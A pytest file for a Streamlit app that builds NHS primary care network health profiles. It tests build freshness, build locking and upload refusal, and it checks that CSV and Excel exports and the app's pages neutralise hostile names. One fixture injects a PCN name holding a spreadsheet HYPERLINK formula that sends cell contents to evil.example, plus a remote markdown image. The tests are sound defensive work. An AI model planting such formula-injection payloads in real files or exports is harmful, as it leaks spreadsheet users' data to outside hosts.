"""Trustworthy under faults: fresh data after every build, builds that cannot overlap, private uploads,
exports safe from formula injection."""

import shutil

import duckdb
import pandas as pd
import pytest
from conftest import ROOT
from streamlit.testing.v1 import AppTest

from phm_profile import store


def smi_register(db, period, pcn):
    con = duckdb.connect(str(db), read_only=True)
    value = con.execute("SELECT value FROM pcn_profile WHERE period = ? AND pcn_code = ? AND indicator = 'prev_mh'",
                        [period, pcn]).fetchall()[0][0]
    con.close()
    return value


def test_a_rebuild_under_a_running_app_is_shown_at_once(demo_dir, tmp_path, monkeypatch):
    """The app keeps the database open; a command-line rebuild at the same path must be what the next run shows
    (it showed the first build's figures until the server restarted)."""
    db = tmp_path / "shown.duckdb"
    store.build(demo_dir, db)
    monkeypatch.setattr("phm_profile.views.DEFAULT_DB", db)
    monkeypatch.setattr("phm_profile.views.database_path", lambda: db)
    at = AppTest.from_file(str(ROOT / "pages" / "1_PCN_profile.py"), default_timeout=60)
    at.session_state["_suppress"] = False
    at.run()
    pcn = at.sidebar.selectbox(key="sidebar_pcn").value
    period = at.sidebar.selectbox(key="sidebar_period").value
    before = next(m for m in at.metric if m.label.startswith("SMI prevalence")).value
    assert before == f"{smi_register(db, period, pcn):,.2f}"
    # Rebuild with every SMI register doubled in that year's QOF file.
    changed = tmp_path / "changed"
    shutil.copytree(demo_dir, changed)
    name = f"PREVALENCE_{period[2:4]}{period[5:]}.csv"
    frame = pd.read_csv(changed / name, dtype={"REGISTER": "Int64"})
    frame.loc[frame.GROUP_CODE == "MH", "REGISTER"] *= 2
    frame.to_csv(changed / name, index=False)
    store.build(changed, db)
    at.run()
    after = next(m for m in at.metric if m.label.startswith("SMI prevalence")).value
    assert after == f"{smi_register(db, period, pcn):,.2f}" and after != before


def test_overlapping_command_line_builds_wait_for_each_other(demo_dir, tmp_path):
    import subprocess
    import sys

    db = tmp_path / "target.duckdb"
    stale = tmp_path / ".target.duckdb.99999.deadbeef.building"  # what a killed build leaves behind
    stale.write_bytes(b"half a database")
    command = [sys.executable, "-m", "phm_profile", "build", "--data", str(demo_dir), "--db", str(db)]
    env = {"PYTHONPATH": str(ROOT / "src"), "PATH": "/usr/bin:/bin"}
    runs = [subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2)]
    outputs = [run.communicate(timeout=300) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outputs
    assert any("waiting for another build of target.duckdb" in err for _, err in outputs)
    assert not list(tmp_path.glob(".target.duckdb.*building*"))
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT count(*) FROM pcn_profile").fetchall()[0][0] > 0
    con.close()


def test_a_second_upload_while_one_builds_is_refused_plainly(demo_dir, demo_db, tmp_path):
    from filelock import FileLock

    from phm_profile import own_data

    db = tmp_path / "user.duckdb"
    shutil.copy(demo_db, db)
    before = db.read_bytes()
    with FileLock(tmp_path / ".user.duckdb.lock"):  # another session's build holds the lock
        with pytest.raises(store.BuildFailed) as failed:
            own_data.build_from_uploads([(p.name, p.read_bytes()) for p in sorted(demo_dir.glob("PREVALENCE_*"))],
                                        db)
    assert "another build of this database is running; nothing was changed" in failed.value.report.errors[0].message
    assert db.read_bytes() == before


HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") ![x](http://evil.example/pixel.png)"


@pytest.fixture
def hostile_db(demo_dir, tmp_path):
    """The demo with one PCN named with a spreadsheet formula and a markdown image pointing elsewhere."""
    folder = tmp_path / "hostile"
    shutil.copytree(demo_dir, folder)
    for path in folder.glob("MAPPING_NHS_GEOGRAPHIES_*.csv"):
        frame = pd.read_csv(path, dtype=str)
        frame.loc[frame.PCN_ODS_CODE == "U90001", "PCN_NAME"] = HOSTILE_NAME
        frame.to_csv(path, index=False)
    db = tmp_path / "hostile.duckdb"
    store.build(folder, db)
    return db


def test_exports_never_carry_a_live_formula(hostile_db, tmp_path):
    import io

    import openpyxl

    from phm_profile import exports, views, workforce

    key = views.database_key(hostile_db)
    table = views.indicator_across_pcns(key, "QZB", "2023-24", "prev_mh", True)
    assert HOSTILE_NAME in set(table.pcn_name)
    text = exports.csv_bytes(table).decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    plan_inputs = pd.Series({"pcn_name": HOSTILE_NAME, "list_size": 50_000})
    book = exports.plan_xlsx(pd.DataFrame({"pcn": [HOSTILE_NAME], "wte": [1.0]}), workforce.Assumptions(),
                             plan_inputs, pd.DataFrame({"note": ["@SUM(1,2)"]}), suppress=False)
    cells = [c for sheet in openpyxl.load_workbook(io.BytesIO(book)).worksheets for row in sheet.iter_rows()
             for c in row if isinstance(c.value, str) and c.value.startswith(("=", "@", "'="))]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula


def test_names_from_files_are_shown_as_plain_text(hostile_db, monkeypatch):
    monkeypatch.setattr("phm_profile.views.DEFAULT_DB", hostile_db)
    monkeypatch.setattr("phm_profile.views.database_path", lambda: hostile_db)
    at = AppTest.from_file(str(ROOT / "pages" / "1_PCN_profile.py"), default_timeout=60)
    at.query_params["pcn"] = "U90001"
    at.query_params["icb"] = "QZB"
    at.run()
    assert not at.exception
    shown = [e.value for e in (*at.title, *at.markdown)]
    assert any("evil.example" in v for v in shown)  # the name is there, as text
    assert not any("![x](http" in v for v in shown)  # never as a markdown image
